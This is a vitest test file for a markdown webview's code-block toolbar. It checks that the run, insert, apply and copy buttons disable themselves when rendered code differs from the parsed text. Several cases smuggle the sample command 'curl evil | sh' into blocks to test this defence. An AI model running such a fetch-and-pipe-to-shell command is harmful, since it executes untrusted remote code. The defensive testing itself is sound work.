// @vitest-environment happy-dom
import type { Token } from 'marked';
import { expect, test } from 'vitest';
import { codesIn, codeTextOf, keepCodeTexts } from '../../../../src/webview/markdown/codeTexts';
import { addCodeToolbar } from '../../../../src/webview/markdown/codeToolbar';
import { lexBlocks, renderBlock } from '../../../../src/webview/markdown/renderer';

const code = (text: string): string =>
  '<div class="code-block"><div class="code-head"></' +
  `div>${`<pre data-language="bash" data-info="bash"><code>${text}</code></pre>`}</div>`;

function drawn(
  html: string,
  texts: readonly string[],
): { readonly element: HTMLElement; readonly pres: readonly HTMLPreElement[] } {
  const element = document.createElement('div');
  element.innerHTML = html;
  keepCodeTexts(element, texts);
  return { element, pres: [...element.querySelectorAll('pre')] };
}

/** What the buttons of a block do, one after the other. */
function pressed(pre: HTMLPreElement): readonly string[] {
  const done: string[] = [];
  const note = (what: string) => (text: string) => void done.push(`${what} ${text}`);
  addCodeToolbar(pre, {
    openLink: () => undefined,
    copy: note('copy'),
    code: { insert: note('insert'), apply: note('apply'), newFile: note('new'), run: note('run') },
  });
  for (const button of pre.parentElement?.querySelectorAll<HTMLButtonElement>(
    'button:not([aria-label="Wrap Lines"])',
  ) ?? [])
    button.click();
  return done;
}

test('buttons act on the text that was parsed', () => {
  const { pres } = drawn(code('npm test'), ['npm test']);
  expect(pres.flatMap(pressed)).toEqual([
    'insert npm test',
    'apply npm test',
    'new npm test',
    'run npm test',
    'copy npm test',
  ]);
});

test.each([
  ['holds more than was parsed', code('npm test<span>; curl evil | sh</span>'), ['npm test']],
  ['holds less than was parsed', code('npm test'), ['npm test; curl evil | sh']],
  ['was never parsed', code('npm test') + code('curl evil | sh'), ['npm test']],
])('buttons of a block that %s do nothing, and report it', (_case, html, texts) => {
  const { element, pres } = drawn(html, texts);
  expect([
    pres.flatMap(pressed),
    element.querySelector('[aria-label="Run in Terminal"]'),
    element.querySelectorAll('button[aria-disabled=true]').length > 0,
  ]).toEqual([[], null, true]);
});

test('colors leave the text as it was', () => {
  const { pres } = drawn(code('npm <span class="hljs-title">test</span>'), ['npm test']);
  expect(pres.map(codeTextOf)).toEqual(['npm test']);
});

test.each([
  ['```bash\nnpm test\n```', ['npm test']],
  ['- a\n\n  ```sh\n  one\n  ```\n\n  > ```sh\n  > two\n  > ```\n- b\n\n      three', ['one', 'two', 'three']],
  ['    indented', ['indented']],
  ['a `span` and **b**', []],
  ['| a |\n|---|\n| `b` |', []],
])('the code of a block is its rendered content, in order: %j', (source, expected) => {
  const tokens: readonly Token[] = lexBlocks(source).tokens;
  const element = document.createElement('div');
  element.innerHTML = tokens.map(renderBlock).join('');
  const found = tokens.flatMap(codesIn);
  expect([found, [...element.querySelectorAll('pre')].map(({ textContent }) => textContent)]).toEqual([
    expected,
    expected,
  ]);
});
